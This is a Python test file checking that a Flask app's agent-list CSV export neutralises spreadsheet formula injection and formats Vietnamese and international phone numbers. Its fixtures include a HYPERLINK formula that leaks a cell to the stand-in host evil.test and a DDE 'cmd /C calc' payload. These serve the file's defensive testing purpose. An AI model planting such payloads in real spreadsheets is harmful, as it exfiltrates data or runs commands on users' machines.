"""The agent list's CSV export: no cell a spreadsheet would run as a formula, phones kept."""

from __future__ import annotations

import csv
import io

from flask import Flask

from tests.support.pages import signed_in_as
from tests.support.world import World, provision, submit
from web.extensions import db
from web.spreadsheet import cell, csv_stream, phone_cell
from workflow.models import Branch, Department, Employee

#: Values an employee list may carry that Excel would take for formulas.
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Bấm vào đây")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_like_names_come_out_as_text_and_phones_as_people_read_them(
    app: Flask, world: World
) -> None:
    # Given an agent whose name, code, branch and department look like formulas
    employee = db.session.get_one(Employee, world.employee_ids[0])
    employee.full_name, employee.employee_code = HYPERLINK, "+84912345678"
    department = db.session.get_one(Department, world.department_ids[0])
    department.name = "-1"
    db.session.get_one(Branch, world.branch_ids[0]).name = SUM
    db.session.commit()
    # And who forwards calls to a Vietnamese mobile, then to a number abroad
    provision(app, world, submit(world, extension="5001", routing_type="phone",
                                 priority_number="0912345678", backup_number="+1 650 253 0000"))

    # When a requester exports the agent list
    response = signed_in_as(app, world, "requester").get("/agents/export.csv")

    # Then the file still opens in Excel as Vietnamese text, every field quoted
    body = response.get_data()
    assert response.mimetype == "text/csv" and body.startswith("\ufeff".encode())
    lines = body.decode("utf-8-sig").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    # And every formula-like value is prefixed with a quote, its text otherwise intact
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert header[0] == "Nhân viên"
    assert row[:4] == ["'" + HYPERLINK, "'+84912345678", "'" + SUM, "'-1"]
    # And the phone numbers read as people write them, Excel keeping the leading 0 and "+"
    assert row[4:8] == ["5001", "phone", "0912 345 678", "'+1 650-253-0000"]


def test_every_cell_that_starts_a_formula_is_neutralised() -> None:
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"):
        assert cell(dangerous) == "'" + dangerous
    for harmless in ("Nguyễn Văn A", "5001", "a=b", "1-2", "'quoted"):
        assert cell(harmless) == harmless
    assert cell(None) == ""


def test_a_stream_neutralises_the_header_too_and_quotes_separators() -> None:
    text = "".join(csv_stream(["=name"], [['a,"b";c', "-2"]]))
    assert text == '\ufeff"\'=name"\r\n"a,""b"";c","\'-2"\r\n'


def test_phone_numbers_are_national_at_home_and_international_abroad() -> None:
    assert phone_cell("+84912345678") == "0912 345 678"
    assert phone_cell("+842438251234") == "024 3825 1234"
    assert phone_cell("+442071838750") == "+44 20 7183 8750"
    assert phone_cell(None) == "" and phone_cell("") == ""
